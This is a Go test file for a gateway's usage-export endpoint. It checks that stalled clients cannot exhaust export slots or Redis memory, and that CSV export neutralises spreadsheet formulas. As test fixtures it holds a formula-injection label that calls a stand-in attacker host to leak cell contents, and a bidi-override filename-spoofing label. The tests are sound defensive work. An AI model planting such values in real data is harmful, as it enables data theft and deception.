package main

import (
	"bufio"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/redis/go-redis/v9"

	"github.com/docsgate/gateway/internal/redistest"
)

// exportTenants is how many tenants the stalled-export test fills: a busy deployment's
// monthly billing export, and an answer (about 8 MB) larger than what the kernel's socket
// buffers take in for a client that does not read.
const exportTenants = 100_000

// fillTenants writes n counters of agent_job_per_project in the current hour, as the limiter
// keeps them, with ids of 36 characters (a UUID's length), pipelined.
func fillTenants(t *testing.T, c *redis.Client, n int) {
	t.Helper()
	ctx := context.Background()
	ws := time.Now().Truncate(time.Hour).Unix()
	pipe := c.Pipeline()
	for i := range n {
		sum := sha256.Sum256([]byte{byte(i), byte(i >> 8), byte(i >> 16)})
		id := fmt.Sprintf("%06d-%s", i, hex.EncodeToString(sum[:])[:29])
		key := "gw:agent_job_per_project:{" + id + "}"
		pipe.HSet(ctx, key, "s", ws, "n", i%100+1)
		pipe.Expire(ctx, key, 2*time.Hour)
		if pipe.Len() >= 2000 {
			if _, err := pipe.Exec(ctx); err != nil {
				t.Fatal(err)
			}
		}
	}
	if _, err := pipe.Exec(ctx); err != nil {
		t.Fatal(err)
	}
}

// exportKeys lists the export sets in Redis (SCAN, as an operator would look).
func exportKeys(t *testing.T, c *redis.Client) []string {
	t.Helper()
	var keys []string
	iter := c.Scan(context.Background(), 0, "gw:export:*", 1000).Iterator()
	for iter.Next(context.Background()) {
		keys = append(keys, iter.Val())
	}
	if err := iter.Err(); err != nil {
		t.Fatal(err)
	}
	return keys
}

// stalledExport asks for an export on a connection of its own and reads the status line and
// headers only, never the body: a client that stops reading.
func stalledExport(p *proc, query string) (net.Conn, *http.Response, error) {
	conn, err := net.Dial("tcp", p.admin)
	if err != nil {
		return nil, nil, err
	}
	_ = conn.SetReadDeadline(time.Now().Add(3 * time.Minute)) // the export is built first
	fmt.Fprintf(conn, "GET /usage/export?%s HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer %s\r\n\r\n", query, adminToken)
	res, err := http.ReadResponse(bufio.NewReaderSize(conn, 512), nil)
	if err != nil {
		conn.Close()
		return nil, nil, err
	}
	return conn, res, nil
}

// The attack of the issue, with the default settings: ten exports of 100,000 tenants at once
// from clients that never read their answers, while other clients ask for exports too. Two
// run (admin_max_exports), every other gets 429 too_many_exports with Retry-After before the
// store is read; the two stalled ones are cut off by the write deadline, their sorted sets
// deleted: Redis' memory comes back to its baseline and no export key is left. Then an export
// read to the end lists every tenant, and leaves nothing behind either.
func TestExportsBoundedAgainstStalledClients(t *testing.T) {
	t.Parallel()
	awayFromHourEnd(t)
	srv := redistest.Start(t)
	c := redis.NewClient(&redis.Options{Addr: srv.Addr})
	defer c.Close()
	fillTenants(t, c, exportTenants)
	// Every default. Exports read through the operators' own Redis client (30 s per command),
	// not the request path's redis.timeout, and have 10 minutes in all: beside two busy loops
	// the race-built gateway took more than 30 s to build one.
	p := startGateway(t, tokenUpstream(t), fmt.Sprintf("admin_token: %q\nredis: {addrs: [%q]}\n", adminToken, srv.Addr))
	memory := func() int64 { return redistest.InfoInt(t, c, "memory", "used_memory") }
	baseline := memory()

	const attackers = 10
	type answer struct {
		conn net.Conn
		res  *http.Response
		err  error
	}
	answers := make(chan answer, attackers)
	start := time.Now()
	for range attackers {
		go func() {
			conn, res, err := stalledExport(p, "limit=agent_job_per_project&window=current&format=json")
			answers <- answer{conn, res, err}
		}()
	}
	var served []net.Conn
	refused := 0
	for range attackers {
		a := <-answers
		if a.err != nil {
			t.Fatal(a.err)
		}
		body := ""
		if a.res.StatusCode != 200 {
			b, _ := io.ReadAll(a.res.Body)
			body = string(b)
			a.conn.Close()
		}
		switch {
		case a.res.StatusCode == 200:
			served = append(served, a.conn)
		case a.res.StatusCode == 429 && a.res.Header.Get("Retry-After") != "" && strings.Contains(body, `"code":"too_many_exports"`):
			refused++
		default:
			t.Errorf("a stalled export: %d %v %s", a.res.StatusCode, a.res.Header, body)
		}
	}
	defer func() {
		for _, conn := range served {
			conn.Close()
		}
	}()
	if len(served) != 2 || refused != attackers-2 {
		t.Fatalf("%d stalled exports served and %d refused, want 2 served and %d refused", len(served), refused, attackers-2)
	}
	// Clients that do read, while the stalled ones hold their slots: refused as well.
	var wg sync.WaitGroup
	for range 2 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			a := adminCall(t, http.DefaultClient, "http://"+p.admin, "GET", "/usage/export?limit=agent_job_per_project&window=current",
				map[string]string{"Authorization": "Bearer " + adminToken}, "")
			if a.status != 429 || a.code != "too_many_exports" || a.header.Get("Retry-After") == "" {
				t.Errorf("an export while two are stalled: %d %v %s, want 429 too_many_exports with Retry-After", a.status, a.header, a.body)
			}
		}()
	}
	wg.Wait()
	// The admitted ones are stalled: their sets are in Redis while their clients keep the
	// connection.
	keys := exportKeys(t, c)
	peak := memory()
	t.Logf("%d tenants: used_memory %.1f MB at baseline, %.1f MB with %d stalled exports (%d sets)",
		exportTenants, float64(baseline)/1e6, float64(peak)/1e6, len(served), len(keys))
	if len(keys) != len(served) || peak < baseline+int64(len(served))*exportTenants*50 {
		t.Fatalf("export sets while two exports are stalled: %v, used_memory %d (baseline %d)", keys, peak, baseline)
	}
	// Cut off by the write deadline (10 s without a byte accepted), on connections still open.
	deadline := time.Now().Add(40 * time.Second)
	for len(exportKeys(t, c)) > 0 || memory() > baseline+baseline/20 {
		if time.Now().After(deadline) {
			t.Fatalf("40 s on: export keys %v, used_memory %d (baseline %d)", exportKeys(t, c), memory(), baseline)
		}
		time.Sleep(200 * time.Millisecond)
	}
	after := memory()
	t.Logf("stalled exports ended %v after they started: used_memory %.1f MB, no export key left", time.Since(start).Round(100*time.Millisecond), float64(after)/1e6)
	if !strings.Contains(p.out.String(), "usage export cut short") {
		t.Error("the gateway did not log the stalled exports it cut short")
	}

	// Clients that go away, while the set is being built or after reading a little of the
	// answer: their sets go as well (deleted on a context of the gateway's own, not the
	// request's, which their leaving cancelled).
	for _, readFirst := range []int{0, 64 << 10} {
		conn, err := net.Dial("tcp", p.admin)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(conn, "GET /usage/export?limit=agent_job_per_project&window=current&format=json HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer %s\r\n\r\n", adminToken)
		deadline := time.Now().Add(30 * time.Second)
		for len(exportKeys(t, c)) == 0 {
			if time.Now().After(deadline) {
				t.Fatal("the export built no set")
			}
			time.Sleep(10 * time.Millisecond)
		}
		if readFirst > 0 {
			_ = conn.SetReadDeadline(time.Now().Add(30 * time.Second))
			if _, err := io.ReadFull(conn, make([]byte, readFirst)); err != nil {
				t.Fatal(err)
			}
		}
		conn.Close()
		deadline = time.Now().Add(10 * time.Second) // well within the write deadline's 10 s plus the scan
		for len(exportKeys(t, c)) > 0 {
			if time.Now().After(deadline) {
				t.Fatalf("a client that went away (after %d bytes) left %v", readFirst, exportKeys(t, c))
			}
			time.Sleep(50 * time.Millisecond)
		}
	}

	// The slots are free again: an export read to the end is whole, and leaves nothing.
	code, _, body := exportOf(t, p, "limit=agent_job_per_project&window=current")
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if code != 200 || err != nil || len(recs) != exportTenants+1 {
		t.Fatalf("an export read to the end: %d %v, %d lines", code, err, len(recs))
	}
	if keys := exportKeys(t, c); len(keys) != 0 {
		t.Fatalf("a complete export left %v", keys)
	}
}

// Key labels and orgs are free text, and project ids may start with - or @: in the CSV export
// a cell a spreadsheet would take for a formula gets a ' in front; the JSON export is exact.
// A label with a bidi override is refused by gateway keys add.
func TestExportFormulaCellsNeutralised(t *testing.T) {
	t.Parallel()
	srv := redistest.Start(t)
	up := tokenUpstream(t)
	// redis.timeout 2s: exact counts are checked, not the timeout (exactTimeout).
	cfg := fmt.Sprintf("admin_token: %q\nredis: {addrs: [%q], timeout: 2s}\nauth: {mode: registry}\norgs:\n  acme: [acme-docs]\n", adminToken, srv.Addr)
	p := startGateway(t, up, cfg)
	cfgFile := writeConfig(t, fmt.Sprintf("upstream: {url: %q}\n%s", up, cfg))
	const label = `=HYPERLINK("http://evil.example/?"&A1,"Invoice")`
	const keyA, keyB = "svc_dsc_formulaAcme0123456789abcdefg", "svc_dsc_formulaPlain0123456789abcdef"
	digestA := keysCLI(t, keyA+"\n", "add", "-config", cfgFile, "--kind", "assistant", "--org", "@acme", "--domain", "acme-docs", "--label", label)
	digestB := keysCLI(t, keyB+"\n", "add", "-config", cfgFile, "--kind", "assistant", "--org", "acme", "--domain", "acme-docs", "--label", "docs site")
	if code, _, errOut := keysRun(t, "svc_dsc_formulaBidi0123456789abcdefgh\n", "add", "-config", cfgFile, "--kind", "assistant", "--org", "acme",
		"--domain", "acme-docs", "--label", "invoice\u202efdp.exe"); code == 0 || !strings.Contains(errOut, "label: must not hold") {
		t.Fatalf("gateway keys add with a bidi label: exit %d %s", code, errOut)
	}
	for key, n := range map[string]int{keyA: 2, keyB: 1} {
		for range n {
			if res := send(t, p, "POST", "/discovery/v1/assistant/acme-docs/message", key, `{"fp":"plain","messages":[]}`); res.StatusCode != 200 {
				t.Fatalf("ask: %d", res.StatusCode)
			}
		}
	}
	const adminKey = "svc_formulaProjects0123456789abcdefg"
	keysCLI(t, adminKey+"\n", "add", "-config", cfgFile, "--kind", "admin", "--org", "acme", "--project", "*")
	for _, project := range []string{"-p1", "@p2", "p3"} {
		if res := send(t, p, "POST", "/v2/agent/"+project+"/job", adminKey, `{"prompt":"x"}`); res.StatusCode != 201 {
			t.Fatalf("job %s: %d", project, res.StatusCode)
		}
	}

	code, _, body := exportOf(t, p, "limit=assistant_per_key&window=current")
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	rows := map[string][]string{}
	for _, r := range recs {
		rows[r[0]] = r
	}
	if code != 200 || err != nil || len(recs) != 3 ||
		fmt.Sprint(rows[digestA]) != fmt.Sprint([]string{digestA, "2", "10000", "", "'" + label, "'@acme"}) ||
		fmt.Sprint(rows[digestB]) != fmt.Sprint([]string{digestB, "1", "10000", "", "docs site", "acme"}) {
		t.Fatalf("CSV export of keys: %d %v\n%s", code, err, body)
	}
	code, _, body = exportOf(t, p, "limit=agent_job_per_project&window=current")
	if want := "id,used,limit,plan,label,org\n'-p1,1,100,,,\n'@p2,1,100,,,\np3,1,100,,,\n"; code != 200 || body != want {
		t.Fatalf("CSV export of projects: %d %q, want %q", code, body, want)
	}

	code, _, body = exportOf(t, p, "limit=assistant_per_key&window=current&format=json")
	var out struct {
		Tenants []struct{ ID, Label, Org string }
	}
	if err := json.Unmarshal([]byte(body), &out); code != 200 || err != nil || len(out.Tenants) != 2 {
		t.Fatalf("JSON export: %d %v %s", code, err, body)
	}
	for _, r := range out.Tenants {
		if r.ID == digestA && (r.Label != label || r.Org != "@acme") || r.ID == digestB && r.Label != "docs site" {
			t.Errorf("JSON export changed a value: %+v", r)
		}
	}
	code, _, body = exportOf(t, p, "limit=agent_job_per_project&window=current&format=json")
	if code != 200 || !strings.Contains(body, `{"id":"-p1","used":1`) || !strings.Contains(body, `{"id":"@p2","used":1`) {
		t.Fatalf("JSON export of projects: %d %s", code, body)
	}
}
